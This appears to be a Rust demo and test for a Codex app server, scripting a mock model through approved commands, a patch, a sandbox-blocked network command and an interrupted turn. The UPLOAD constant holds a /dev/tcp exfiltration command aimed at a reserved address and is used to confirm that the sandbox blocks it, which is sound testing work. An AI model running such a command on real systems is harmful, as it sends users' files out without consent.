//! `codex-app-server demo`: the whole stack at work, without a key and without a network.
//!
//! A mock model and this program itself, as a child over pipes, hold a short conversation: a turn with reasoning,
//! streamed text, a command and a patch that are asked for, a command whose sandbox keeps it from the network, and a turn
//! that is interrupted. Every frame is shown, every
//! expectation is checked, and the times are summed up at the end. All files are in a temporary folder.

mod folder;
mod session;
mod show;

use std::time::Instant;

use anyhow::{Context, Result, bail, ensure};
use codex_core::mock_model::{Answer, Condition, MockModel, Reason, Say, Script, Step};
use serde_json::{Value, json};

use folder::Folder;
use session::DemoClient;
use show::Times;

const QUESTION: &str = "Write a greeting into a file and show it to me.";
const THOUGHT: &str = "A short file will do; writing needs permission, so I ask for it.";
const PLAN: &str = "I'll write the file and read it back.";
const COMMAND: &str = "printf 'hello from the demo\\n' > greeting.txt && cat greeting.txt";
const GREETING: &str = "hello from the demo";
const PATCH: &str = "\
*** Begin Patch
*** Update File: greeting.txt
@@
-hello from the demo
+Hello from the demo!
*** Add File: notes/greeting.txt
+It says hello.
*** End Patch
";
const DIFF: &str = "@@ -1 +1 @@\n-hello from the demo\n+Hello from the demo!\n";
const PATCHED: &str = "Success. Updated the following files:";
/// What no sandbox lets through. The address is kept for documents (RFC 5737), so nobody is there.
const UPLOAD: &str = "echo 'sending the greeting to 192.0.2.1'; cat greeting.txt > /dev/tcp/192.0.2.1/80";
const RESULT: &str = "Done: `greeting.txt` now says “Hello from the demo!”.";
const SECOND_QUESTION: &str = "Now tell me a very long story.";
const STORY: &str = "Once upon a time there was a pipe, and at its other end";

/// Runs the demo. Fails at the first thing that is not as it should be.
pub(crate) async fn run() -> Result<()> {
    let folder = Folder::new().context("cannot make a temporary folder")?;
    let model = MockModel::start(script());
    folder
        .write_config(&model.base_url())
        .context("cannot write config.toml")?;

    let mut times = Times::default();
    let mut session = DemoClient::start(&folder)?;
    let outcome = converse(&mut session, &model, &folder, &mut times).await;
    if let Err(error) = outcome {
        let log = folder.log();
        return Err(match log.trim() {
            "" => error,
            log => error.context(format!("the daemon's log says:\n{log}")),
        });
    }
    if let Some(mismatch) = model.mismatches().first() {
        bail!("the model was not asked what it should be: {mismatch}");
    }
    ensure!(
        model.answers_left() == 0,
        "the model was asked less often than it should be"
    );
    session.show().table(&times);
    Ok(())
}

fn script() -> Script {
    let say = |text: &str, phase: &str, deltas| {
        Step::Say(Say {
            deltas,
            delay_ms: 15,
            phase: Some(phase.to_owned()),
            ..Say::new(text)
        })
    };
    let think = Step::Reason(Reason {
        deltas: 3,
        delay_ms: 15,
        ..Reason::new(THOUGHT)
    });
    let arguments = json!({
        "cmd": COMMAND,
        "sandbox_permissions": "require_escalated",
        "justification": "The greeting has to be written to the working folder.",
    });
    let story = Step::Say(Say {
        deltas: 6,
        delay_ms: 15,
        unfinished: true,
        ..Say::new(STORY)
    });
    Script::new()
        .then(
            Answer::new()
                .expect(Condition::input(QUESTION))
                .step(think)
                .step(say(PLAN, "commentary", 4))
                .call("call-1", "exec_command", arguments),
        )
        .then(
            Answer::new()
                .expect(Condition::input(GREETING))
                .custom_call("call-2", "apply_patch", PATCH),
        )
        .then(Answer::new().expect(Condition::input(PATCHED)).call(
            "call-3",
            "exec_command",
            json!({"cmd": UPLOAD, "shell": "bash", "login": false}),
        ))
        .then(Answer::new().step(say(RESULT, "final_answer", 5)))
        .then(
            Answer::new()
                .expect(Condition::input(SECOND_QUESTION))
                .step(story)
                .hang(),
        )
}

async fn converse(
    session: &mut DemoClient,
    model: &MockModel,
    folder: &Folder,
    times: &mut Times,
) -> Result<()> {
    session.show().heading("Starting");
    let started = session.started();
    let client = json!({"name": "demo", "title": "Demo", "version": env!("CARGO_PKG_VERSION")});
    let answer = session
        .call(
            "initialize",
            json!({"clientInfo": client, "capabilities": {"experimentalApi": false}}),
        )
        .await?;
    times.add("process started → initialize answered", started.elapsed());
    ensure!(
        answer["userAgent"].is_string(),
        "initialize answered without a user agent"
    );
    session.notify("initialized").await?;
    let begun = Instant::now();
    let answer = session.call("thread/start", json!({})).await?;
    times.add("thread/start → answered", begun.elapsed());
    let thread = text(&answer["thread"]["id"], "the thread's id")?;
    times.memory = session.memory();

    session.show().heading(
        "A turn with reasoning, text, a command and a patch that need your word, and one that is kept in",
    );
    first_turn(session, model, &thread, times).await?;
    ensure!(
        folder.work_file("greeting.txt") == "Hello from the demo!\n"
            && folder.work_file("notes/greeting.txt") == "It says hello.\n",
        "the patch did not write its files"
    );

    session.show().heading("A turn that is interrupted");
    second_turn(session, model, &thread, times).await?;

    session.show().heading("End of input");
    let begun = Instant::now();
    let status = session.end().await?;
    times.add("end of input → process ended", begun.elapsed());
    ensure!(status.success(), "the daemon ended with {status}");
    Ok(())
}

async fn first_turn(
    session: &mut DemoClient,
    model: &MockModel,
    thread: &str,
    times: &mut Times,
) -> Result<()> {
    let begun = Instant::now();
    let turn = start_turn(session, thread, QUESTION).await?;
    session.until("item/agentMessage/delta", |_| true).await?;
    let first_text = begun.elapsed();
    let asked = model
        .requests()
        .first()
        .map(|request| request.at.saturating_duration_since(begun));
    times.add(
        "turn/start → request at the model",
        asked.context("the model was not asked")?,
    );
    times.add(
        "turn/start → first text (60 ms of it are the model's)",
        first_text,
    );

    let question = session
        .until("item/commandExecution/requestApproval", |_| true)
        .await?;
    ensure!(
        question["params"]["itemId"] == "call-1",
        "the question is not about the command: {question}"
    );
    ensure!(
        question["params"]["turnId"] == turn,
        "the question is not about this turn"
    );
    let begun = Instant::now();
    session.answer(&question, json!({"decision": "accept"})).await?;
    let done = session
        .until("item/completed", |params| {
            params["item"]["type"] == "commandExecution"
        })
        .await?;
    times.add("approval given → command done", begun.elapsed());
    let item = &done["params"]["item"];
    ensure!(
        item["status"] == "completed" && item["exitCode"] == 0,
        "the command failed: {item}"
    );
    ensure!(
        item["aggregatedOutput"] == format!("{GREETING}\n"),
        "the command's output is wrong: {item}"
    );
    patch(session, times).await?;
    let refused = session
        .until("item/completed", |params| params["item"]["id"] == "call-3")
        .await?;
    let item = &refused["params"]["item"];
    ensure!(
        item["status"] == "failed" && item["exitCode"] != 0,
        "a command without permission reached the network: {item}"
    );

    let end = session
        .until("turn/completed", |params| params["turn"]["id"] == turn)
        .await?;
    let frames = session.frames();
    ensure!(
        end["params"]["turn"]["status"] == "completed",
        "the turn did not complete: {end}"
    );
    let (thought, said) = (
        joined(frames, "item/reasoning/summaryTextDelta"),
        joined(frames, "item/agentMessage/delta"),
    );
    ensure!(thought == THOUGHT, "the reasoning came as {thought:?}");
    ensure!(said == format!("{PLAN}{RESULT}"), "the text came as {said:?}");
    ensure!(
        count(frames, "serverRequest/resolved") == 2,
        "the questions were not declared resolved"
    );
    ensure!(
        count(frames, "thread/tokenUsage/updated") == 4,
        "the usage of all answers was not told"
    );
    ensure!(
        count(frames, "turn/diff/updated") == 2,
        "what the turn changed was not told"
    );
    ensure!(
        count(frames, "error") + count(frames, "warning") == 0,
        "an error or a warning was told"
    );
    Ok(())
}

/// The patch of the first turn.
async fn patch(session: &mut DemoClient, times: &mut Times) -> Result<()> {
    let question = session
        .until("item/fileChange/requestApproval", |params| {
            params["itemId"] == "call-2"
        })
        .await?;
    let begun = Instant::now();
    session.answer(&question, json!({"decision": "accept"})).await?;
    let done = session
        .until("item/completed", |params| params["item"]["type"] == "fileChange")
        .await?;
    times.add("approval given → patch applied", begun.elapsed());
    let item = &done["params"]["item"];
    ensure!(item["status"] == "completed", "the patch was not applied: {item}");
    let diffs = item["changes"].as_array().into_iter().flatten();
    ensure!(
        diffs.filter(|change| change["diff"] == DIFF).count() == 1,
        "the patch's diff is wrong: {item}"
    );
    let diff = session.until("turn/diff/updated", |_| true).await?;
    let diff = text(&diff["params"]["diff"], "the turn's diff")?;
    ensure!(
        diff.contains(DIFF) && diff.contains("+++ b/notes/greeting.txt"),
        "the turn's diff is wrong: {diff}"
    );
    Ok(())
}

async fn second_turn(
    session: &mut DemoClient,
    model: &MockModel,
    thread: &str,
    times: &mut Times,
) -> Result<()> {
    let turn = start_turn(session, thread, SECOND_QUESTION).await?;
    session
        .until("item/agentMessage/delta", |params| {
            params["delta"].as_str().is_some_and(|text| text.contains("pipe"))
        })
        .await?;
    let begun = Instant::now();
    session
        .call("turn/interrupt", json!({"threadId": thread, "turnId": turn}))
        .await?;
    let end = session
        .until("turn/completed", |params| params["turn"]["id"] == turn)
        .await?;
    times.add("turn/interrupt → turn over", begun.elapsed());
    ensure!(
        end["params"]["turn"]["status"] == "interrupted",
        "the turn was not interrupted: {end}"
    );
    model
        .wait_for_cancelled(1)
        .await
        .context("the model's stream was not left")?;
    Ok(())
}

async fn start_turn(session: &mut DemoClient, thread: &str, words: &str) -> Result<String> {
    let input = json!([{"type": "text", "text": words}]);
    let answer = session
        .call("turn/start", json!({"threadId": thread, "input": input}))
        .await?;
    text(&answer["turn"]["id"], "the turn's id")
}

fn text(value: &Value, what: &str) -> Result<String> {
    Ok(value
        .as_str()
        .with_context(|| format!("{what} is missing"))?
        .to_owned())
}

fn joined(frames: &[Value], method: &str) -> String {
    let deltas = frames.iter().filter(|frame| frame["method"] == method);
    deltas
        .filter_map(|frame| frame["params"]["delta"].as_str())
        .collect()
}

fn count(frames: &[Value], method: &str) -> usize {
    frames.iter().filter(|frame| frame["method"] == method).count()
}
